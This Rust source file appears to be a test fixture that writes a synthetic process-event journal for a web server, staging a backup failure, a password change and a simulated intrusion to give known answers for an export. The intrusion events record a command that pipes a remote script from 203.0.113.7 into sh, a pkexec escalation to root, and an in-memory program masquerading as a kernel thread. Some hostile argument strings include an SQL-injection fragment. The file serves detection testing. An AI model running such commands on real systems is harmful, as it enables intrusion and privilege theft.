//! A night on a web server, as a journal: what is asked of its export has known answers.
//!
//! Somebody gets in through nginx, becomes root by `pkexec`, and runs a program that is in memory only.
//! Meanwhile the backup of the night fails, and a user on the host changes a password.

use std::fs::File;
use std::path::Path;
use std::time::{Duration, SystemTime};

use procession::{
    Arguments, BootTime, Capabilities, CapabilitySet, Cgroup, Context, Credentials, Event, EventKind, Exec,
    Exit, ExitStatus, FileIdentity, Fork, Gid, Namespaces, Pid, PrivilegeChange, ProcessKey, Program,
    Running, Subject, TableConfig, Uid, WallClock, WorkingDirectory,
};
use procession_journal::{BlockBuilder, Container, Pod, RawBlock, Recording, Writer};

/// The container in which nginx runs.
const CONTAINER: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

/// When the machine was booted: at two in the night of yesterday (UTC).
fn booted() -> SystemTime {
    const DAY: u64 = 24 * 60 * 60;
    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap();
    SystemTime::UNIX_EPOCH + Duration::from_secs((now.as_secs() / DAY - 1) * DAY + 2 * 60 * 60)
}

pub(crate) fn recording() -> Recording {
    Recording {
        node_name: "shop-1".to_owned(),
        boot_id: "6ba7b810-9dad-11d1-80b4-00c04fd430c8".parse().unwrap(),
        clock: WallClock::new(BootTime::ZERO, booted()),
        source: "eBPF".to_owned(),
        root: None,
        host_namespaces: None,
        table: TableConfig::default(),
    }
}

/// A time of that night.
fn at(clock: &str) -> BootTime {
    let parts: Vec<u64> = clock.split(':').map(|part| part.parse().unwrap()).collect();
    let [hours, minutes, seconds] = parts[..] else { panic!("{clock}") };
    BootTime::from_nanos(((hours - 2) * 3_600 + minutes * 60 + seconds) * 1_000_000_000 + 123_456_789)
}

/// Who runs something, and where.
#[derive(Clone, Copy)]
struct Who {
    uid: u32,
    euid: u32,
    cgroup: &'static str,
}

const POD: &str = "/kubepods.slice/kubepods-pod4711.slice/\
     cri-containerd-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope";
const ROOT: Who = Who { uid: 0, euid: 0, cgroup: "/system.slice" };
const WEB: Who = Who { uid: 33, euid: 33, cgroup: POD };
const WEB_ROOT: Who = Who { uid: 33, euid: 0, cgroup: POD };
const BECAME_ROOT: Who = Who { uid: 0, euid: 0, cgroup: POD };
const ANNA: Who = Who { uid: 1000, euid: 1000, cgroup: "/user.slice" };

impl Who {
    fn context(self) -> Context<'static> {
        let capabilities = CapabilitySet(if self.euid == 0 { (1 << 41) - 1 } else { 0 });
        let credentials = Credentials {
            uid: Uid(self.uid),
            gid: Gid(self.uid),
            euid: Uid(self.euid),
            egid: Gid(self.uid),
            login_uid: (self.uid == 1000).then_some(Uid(1000)),
            capabilities: Capabilities {
                effective: capabilities,
                permitted: capabilities,
                ..Capabilities::default()
            },
            ..Credentials::default()
        };
        let net = if self.cgroup == POD { 4_026_532_500 } else { 4_026_531_840 };
        Context {
            credentials: Some(credentials),
            namespaces: Some(Namespaces { net, pid: 4_026_531_836, ..Namespaces::default() }),
            cgroup: Some(Cgroup { id: 77, path: self.cgroup.as_bytes() }),
            ..Context::default()
        }
    }
}

/// A process that the story follows.
#[derive(Clone, Copy)]
struct Hero {
    key: ProcessKey,
    began: BootTime,
}

impl Hero {
    fn subject(self) -> Subject {
        Subject::exact(self.key, self.began)
    }
}

/// What happens, in its order.
#[derive(Default)]
struct Night {
    builder: Option<BlockBuilder>,
}

fn program<'a>(arguments: &'a str, file: &'a str, cwd: &'a str) -> Program<'a> {
    program_of(arguments.as_bytes(), file.as_bytes(), cwd.as_bytes())
}

fn program_of<'a>(arguments: &'a [u8], file: &'a [u8], cwd: &'a [u8]) -> Program<'a> {
    Program {
        binary: file,
        executable: file,
        comm: b"comm",
        cwd: WorkingDirectory::Path(cwd),
        arguments: Arguments::complete(arguments),
        file: Some(FileIdentity { inode: 4711, device: 8, links: 1, mode: 0o100_755, uid: 0, gid: 0 }),
        ..Program::default()
    }
}

impl Night {
    fn tell(&mut self, time: BootTime, kind: &EventKind<'_>) {
        self.builder.get_or_insert_with(|| BlockBuilder::new(0)).push(&Event { time, kind: *kind });
    }

    /// It ran before anybody looked.
    fn found(&mut self, pid: u32, parent: ProcessKey, who: Who, program: Program<'_>) -> Hero {
        let began = BootTime::from_nanos(u64::from(pid) * 1_000_000);
        let hero = Hero { key: ProcessKey::new(Pid(pid), began), began };
        let running = Running {
            process: hero.subject(),
            owner: parent.into(),
            context: who.context(),
            program,
            ..Running::default()
        };
        self.tell(at("02:30:00"), &EventKind::Running(running));
        hero
    }

    fn fork(&mut self, clock: &str, pid: u32, parent: Hero) -> Hero {
        let began = at(clock);
        let hero = Hero { key: ProcessKey::new(Pid(pid), began), began };
        let fork = Fork {
            child: hero.subject(),
            parent: parent.key.into(),
            parent_tid: parent.key.pid,
            ..Fork::default()
        };
        self.tell(began, &EventKind::Fork(fork));
        hero
    }

    fn exec(&mut self, clock: &str, hero: Hero, owner: Hero, who: Who, program: Program<'_>) -> Hero {
        // A moment after the fork.
        let start = at(clock).after(Duration::from_millis(1));
        let after = Hero { key: ProcessKey::new(hero.key.pid, start), began: hero.began };
        let exec = Exec {
            process: after.subject(),
            replaces: Some(hero.key),
            tid: hero.key.pid,
            owner: owner.key.into(),
            context: who.context(),
            program,
        };
        self.tell(start, &EventKind::Exec(exec));
        after
    }

    /// Forks and execs.
    fn run(&mut self, clock: &str, pid: u32, parent: Hero, who: Who, program: Program<'_>) -> Hero {
        let child = self.fork(clock, pid, parent);
        self.exec(clock, child, parent, who, program)
    }

    fn exit(&mut self, clock: &str, hero: Hero, status: u32) {
        let exit = Exit {
            process: hero.subject(),
            tid: hero.key.pid,
            status: Some(ExitStatus::from_raw(status)),
            comm: b"comm",
            ..Exit::default()
        };
        self.tell(at(clock), &EventKind::Exit(exit));
    }

    fn whole(&mut self) {
        let init = self.found(1, ProcessKey::NONE, ROOT, program("init\0", "/usr/lib/systemd/systemd", "/"));
        let cron =
            self.found(300, init.key, ROOT, program("cron\0-f\0", "/usr/sbin/cron", "/var/spool/cron"));
        let nginx = program("nginx\0-g\0daemon off;\0", "/usr/sbin/nginx", "/");
        let nginx = self.found(100, init.key, Who { uid: 0, euid: 0, cgroup: POD }, nginx);
        let bash = self.found(400, init.key, ANNA, program("-bash\0", "/usr/bin/bash", "/home/anna"));
        self.break_in(nginx);
        self.back_up(cron);
        self.change_password(bash);
        self.be_hostile(bash);
    }

    fn break_in(&mut self, nginx: Hero) {
        let worker = self.fork("02:59:00", 101, nginx);
        self.tell(
            at("02:59:01"),
            &EventKind::Change(procession::Change { process: worker.subject(), context: WEB.context() }),
        );
        let shell = program("sh\0-c\0curl -s http://203.0.113.7/x | sh\0", "/usr/bin/dash", "/var/www");
        let shell = self.run("03:01:00", 200, worker, WEB, shell);
        let curl = program("curl\0-s\0http://203.0.113.7/x\0", "/usr/bin/curl", "/var/www");
        let curl = self.run("03:01:01", 201, shell, WEB, curl);
        self.exit("03:01:02", curl, 0);
        let setuid = PrivilegeChange { setuid: true, setuid_root: true, ..PrivilegeChange::default() };
        let pkexec = program("pkexec\0/bin/bash\0", "/usr/bin/pkexec", "/var/www");
        let pkexec = self.run("03:01:03", 202, shell, WEB_ROOT, Program { privileges: setuid, ..pkexec });
        let bash = program("/bin/bash\0-i\0", "/usr/bin/bash", "/root");
        let bash = self.exec("03:01:04", pkexec, shell, BECAME_ROOT, bash);
        let hidden = Program {
            binary: b"/proc/self/fd/3",
            executable: b"/memfd:x",
            file: Some(FileIdentity { inode: 9, links: 0, ..FileIdentity::default() }),
            ..program("[kworker/0:1]\0", "", "/root")
        };
        let hidden = self.run("03:01:06", 203, bash, BECAME_ROOT, hidden);
        self.exit("03:08:00", hidden, 9);
    }

    fn back_up(&mut self, cron: Hero) {
        let shell = self.run(
            "03:00:01",
            301,
            cron,
            ROOT,
            program("sh\0-c\0backup --all\0", "/usr/bin/dash", "/root"),
        );
        let rsync = program("rsync\0-a\0/srv\0backup:/srv\0", "/usr/bin/rsync", "/root");
        let rsync = self.run("03:00:02", 302, shell, ROOT, rsync);
        self.exit("03:04:10", rsync, 23 << 8);
        self.exit("03:04:11", shell, 23 << 8);
    }

    fn change_password(&mut self, bash: Hero) {
        let setuid = PrivilegeChange { setuid: true, setuid_root: true, ..PrivilegeChange::default() };
        let passwd = program("passwd\0", "/usr/bin/passwd", "/home/anna");
        let who = Who { euid: 0, ..ANNA };
        let passwd = self.run("03:20:00", 401, bash, who, Program { privileges: setuid, ..passwd });
        self.exit("03:20:09", passwd, 0);
    }

    /// Names that are made to confuse whoever reads them.
    fn be_hostile(&mut self, bash: Hero) {
        let arguments = b"a\nb\0\"quoted\", 'too'; -- DROP\0\0\xff\xfe|\xc3\xa9\0\t\\N\0";
        let odd = program_of(arguments, b"/tmp/x\n\"y\",\xf0\x28z", b"/tmp/\x1b[31m");
        let odd = self.run("03:30:00", 402, bash, ANNA, odd);
        self.exit("03:30:01", odd, 1 << 8);
    }
}

/// What is known of the container.
fn container() -> Container {
    let pod = Pod {
        uid: "4711".to_owned(),
        name: "web-7".to_owned(),
        namespace: "shop".to_owned(),
        workload: "web".to_owned(),
        workload_kind: "Deployment".to_owned(),
        ..Pod::default()
    };
    Container {
        id: CONTAINER.to_owned(),
        name: "nginx".to_owned(),
        image: "nginx:1.29".to_owned(),
        image_id: "nginx@sha256:1".to_owned(),
        started: None,
        pod: Some(pod),
    }
}

/// Writes the journal of that night.
pub(crate) fn write(path: &Path) {
    let recording = recording();
    let mut night = Night::default();
    night.whole();
    let events = night.builder.unwrap().take(&recording, b"");
    let blocks = [RawBlock::head(&recording), events, RawBlock::names(&recording, &[container()]).remove(0)];
    let mut writer = Writer::new(File::create(path).unwrap());
    for block in blocks {
        writer.write(&block).unwrap();
    }
}
